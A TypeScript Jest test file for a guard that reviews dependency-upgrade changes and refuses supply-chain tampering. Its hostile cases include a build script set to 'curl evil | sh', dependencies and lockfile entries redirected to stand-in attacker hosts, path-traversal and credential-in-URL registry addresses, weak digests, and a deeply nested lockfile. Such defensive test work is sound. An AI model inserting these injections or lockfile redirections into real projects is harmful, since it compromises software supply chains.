import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { locked } from './support/generated-repository';
import {
  all,
  assessedChange,
  causesOf,
  entry,
  type HarmlessCase,
  type HostileCase,
  type Json,
  json,
  LOCK,
  lock,
  prettier,
  repository,
  SNAPSHOT,
  version,
  withRepository,
  write,
} from './support/patches';

withRepository();

const HOSTILE: readonly HostileCase[] = [
  // package.json
  [
    'a script',
    'dependencies',
    json('package.json', (it) => Object.assign(it.scripts as object, { build: 'curl evil' })),
    /"scripts" changes/,
  ],
  [
    'a script of installing',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it.scripts as object, { postinstall: 'projen postinstall' })),
    ),
    /run by package managers/,
  ],
  [
    'a script that is no task',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it.scripts as object, { build: 'curl evil | sh' })),
    ),
    /not the task/,
  ],
  [
    'overrides',
    'template',
    all(
      version(),
      json('package.json', (it) => Object.assign(it, { overrides: { semver: 'npm:evil@1' } })),
    ),
    /"overrides" changes/,
  ],
  ['a program', 'cdk', json('package.json', (it) => Object.assign(it, { bin: { x: 'x.js' } })), /"bin" changes/],
  [
    'another dependency',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { evil: '^1.0.0' })),
    /asks for evil/,
  ],
  [
    'one dependency less',
    'dependencies',
    json('package.json', (it) => delete (it.devDependencies as Json).prettier),
    /no longer asks/,
  ],
  [
    'a dependency from git',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: 'github:evil/prettier' })),
    /comes from/,
  ],
  [
    'a dependency from an address',
    'template',
    all(
      version(),
      json('package.json', (it) =>
        Object.assign(it.devDependencies as object, { prettier: 'https://evil.example/p.tgz' }),
      ),
    ),
    /comes from/,
  ],
  [
    'another package by its name',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: 'npm:evil@^3' })),
    /comes from/,
  ],
  [
    'an older range',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^2.0.0' })),
    /goes back/,
  ],
  [
    'a range that the lockfile has not',
    'dependencies',
    json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^3.5.0' })),
    /and package\.json for/,
  ],
  ['no JSON', 'dependencies', write('package.json', '{'), /no object of JSON/],
  // lockfile
  [
    'another registry',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://evil.example/prettier/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'another package of the registry',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com/evil/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a way out of the folder of the package',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com/prettier/%2e%2e/evil/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a password in the address',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'https://registry.example.com@evil.example/prettier/-/prettier-3.9.0.tgz' }),
    /not where the base/,
  ],
  [
    'a package of a scope from the public registry',
    'dependencies',
    entry('@acme/tool', '9.9.9', {}),
    /not where the base/,
  ],
  ['no digest', 'dependencies', entry('prettier', '3.9.0', { integrity: undefined }), /digest of SHA-512/],
  [
    'a weak digest',
    'dependencies',
    entry('prettier', '3.9.0', { integrity: 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=' }),
    /digest of SHA-512/,
  ],
  [
    'another content of the same version',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = {
        ...packages['node_modules/prettier'],
        integrity: `sha512-${'b'.repeat(86)}==`,
      };
    }),
    /another content/,
  ],
  [
    'a package that runs scripts',
    'dependencies',
    entry('prettier', '3.9.0', { hasInstallScript: true }),
    /runs scripts/,
  ],
  [
    'a package of a folder',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'app', link: true }),
    /from no registry/,
  ],
  [
    'a package of git',
    'dependencies',
    entry('prettier', '3.9.0', { resolved: 'git+ssh://git@evil.example/p.git#0' }),
    /not where the base/,
  ],
  [
    'another package in its place',
    'dependencies',
    entry('prettier', '3.9.0', { name: 'evil', resolved: 'https://registry.example.com/evil/-/evil-3.9.0.tgz' }),
    /takes the place|is evil there/,
  ],
  ['the package of the CDK', 'dependencies', entry('constructs', '10.9.0', {}), /upgrade of its own/],
  ['the template', 'dependencies', entry('projen-udp-service', '9.9.9', {}), /upgrade of its own/],
  ['a tool', 'cdk', prettier, /upgrade of its own/],
  ['an older version', 'dependencies', entry('typescript', '5.0.0', {}), /goes back/],
  [
    'a dependency that package.json has not',
    'dependencies',
    lock((packages) => Object.assign(packages['']?.devDependencies as object, { evil: '^1' })),
    /and package\.json for/,
  ],
  [
    'another form of the lockfile',
    'dependencies',
    lock((_, whole) => {
      whole.lockfileVersion = 1;
    }),
    /lockfileVersion/,
  ],
  ['no lockfile', 'dependencies', () => rmSync(join(repository.directory, LOCK)), /removed|there is none/],
  [
    'a lockfile that is nested without end',
    'dependencies',
    write(LOCK, `{"lockfileVersion":3,"packages":{"a":${'['.repeat(200_000)}${']'.repeat(200_000)}}}`),
    /cannot be read|nested/,
  ],
];

const HARMLESS: readonly HarmlessCase[] = [
  ['a newer tool', 'dependencies', prettier, true],
  [
    'a newer tool with its range',
    'dependencies',
    all(
      lock((packages) => {
        packages['node_modules/prettier'] = locked('prettier', '3.9.0');
        Object.assign(packages['']?.devDependencies as object, { prettier: '^3.9.0' });
      }),
      json('package.json', (it) => Object.assign(it.devDependencies as object, { prettier: '^3.9.0' })),
    ),
    true,
  ],
  [
    'a newer tool that asks for another package',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = locked('prettier', '3.9.0', { dependencies: { fresh: '^1' } });
      packages['node_modules/fresh'] = locked('fresh', '1.0.0');
    }),
    true,
  ],
  [
    'a newer tool that brings a package in itself',
    'dependencies',
    lock((packages) => {
      packages['node_modules/prettier'] = locked('prettier', '3.9.0', { bundleDependencies: ['x'] });
      packages['node_modules/prettier/node_modules/x'] = {
        version: '1.0.0',
        inBundle: true,
        dependencies: { y: '^1' },
      };
      packages['node_modules/prettier/node_modules/y'] = { version: '1.0.0', inBundle: true };
    }),
    true,
  ],
  ['a package that the deployment asks for by another', 'dependencies', entry('semver', '7.9.0', {}), false],
  [
    'what only another package asks for, but the deployment as well',
    'dependencies',
    all(prettier, entry('semver', '7.9.0', {})),
    false,
  ],
  [
    'the CDK with its snapshots',
    'cdk',
    all(entry('constructs', '10.9.0', {}), write(SNAPSHOT, '// Jest Snapshot v1\n')),
    false,
  ],
  ['snapshots beside a tool', 'dependencies', all(prettier, write(SNAPSHOT, '// Jest Snapshot v1\n')), false],
];

test.each(HOSTILE)('%s is not taken from an upgrade of %s', async (_why, kind, change, cause) => {
  expect(await causesOf(kind, change)).toMatch(cause);
});

test.each(HARMLESS)('%s is taken from an upgrade of %s', async (_why, kind, change, byItself) => {
  const { refusals, needsPerson } = await assessedChange(kind, change);
  expect(refusals).toEqual([]);
  expect(needsPerson === undefined).toBe(byItself);
});

test.each([
  ['a command of what deploys', { bin: { cdk: 'x.js' } }],
  ['a command of the system', { bin: { prettier: 'x.js', git: 'x.js' } }],
])('a tool that brings %s waits for a person', async (_why, more) => {
  const { refusals, needsPerson } = await assessedChange('dependencies', entry('prettier', '3.9.0', more));
  expect(refusals).toEqual([]);
  expect(needsPerson).toMatch(/prettier brings the command "(cdk|prettier)"/);
});
